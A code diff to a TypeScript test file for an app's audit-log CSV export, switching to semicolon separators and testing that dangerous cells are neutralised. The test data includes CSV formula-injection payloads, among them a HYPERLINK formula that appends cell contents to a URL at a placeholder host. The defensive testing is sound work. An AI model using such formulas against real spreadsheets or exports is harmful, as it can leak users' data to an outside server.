@@ -1,5 +1,5 @@
 import { groupsOf, isOperatorClaim } from '../../contract/team';
-import { auditCsv, type ReadAuditPage } from './audit';
+import { auditCsv, csvField, type ReadAuditPage } from './audit';
 import { checkUid, parseSearch } from './caregivers';
 
 describe('groups of a verified token', () => {
@@ -48,7 +48,15 @@ describe('the Registro as CSV', () => {
     };
     const csv = await auditCsv(async (_limit, cursor) => pages[cursor ?? 'first']);
     expect(csv).toBe(
-      'quando,quem,ação,alvo\r\n2026-11-23T10:00:00.000Z,op,Acesso bloqueado,uid-1\r\n2026-11-22T10:00:00.000Z,op,Exclusão da conta iniciada (LGPD),conta excluída\r\n',
+      '\uFEFFquando;quem;ação;alvo\r\n2026-11-23T10:00:00.000Z;op;Acesso bloqueado;uid-1\r\n2026-11-22T10:00:00.000Z;op;Exclusão da conta iniciada (LGPD);conta excluída\r\n',
     );
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula, and quotes separators', async () => {
+    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Clique")', '+1+1', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', 'Ana; Souza'];
+    const csv = await auditCsv(async () => ({ entries: hostile.map((targetId, i) => ({ id: String(i), at: '2026-11-23T10:00:00.000Z', actorId: 'op', action: 'acesso-bloqueado' as const, targetId })), cursor: null }));
+    const targets = csv.trim().split('\r\n').slice(1).map((line) => line.slice(line.lastIndexOf(';Acesso bloqueado;') + ';Acesso bloqueado;'.length));
+    expect(targets).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""Clique"")"', "'+1+1", "'-2+3", "'@SUM(1)", "'\tcmd", '"\'\rcmd"', '"Ana; Souza"']);
+    expect(csvField('Maria')).toBe('Maria');
   });
 });
